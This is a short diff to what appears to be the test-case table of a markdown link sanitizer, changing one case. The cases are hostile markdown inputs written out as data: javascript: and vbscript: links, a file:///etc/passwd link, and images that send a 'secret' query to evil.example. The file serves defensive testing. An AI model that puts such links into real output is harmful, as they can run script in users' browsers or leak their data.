@@ -22,7 +22,7 @@ CASES = {
     "vbscript link": "[x](vbscript:x)",
     "file link": "[x](file:///etc/passwd) [y](/api/kernels) [z](//evil.example)",
     "autolink": "<javascript:alert(1)> <data:text/html,x> <https://ok.example/a>",
-    "autolink in link": "[a <https://ok.example/a> b](https://evil.example) [<x:y>](javascript:z)",
+    "autolink in link": "[a <https://ok.example/a> b](https://evil.example) [<x:y>](x:z)",
     "reference link": "[x][r] ![y][r]\n\n[r]: javascript:alert(1)",
     "reference image": "![x][r]\n\n[r]: https://evil.example/?q=secret",
     "image": "![alt](https://evil.example/?q=secret)",
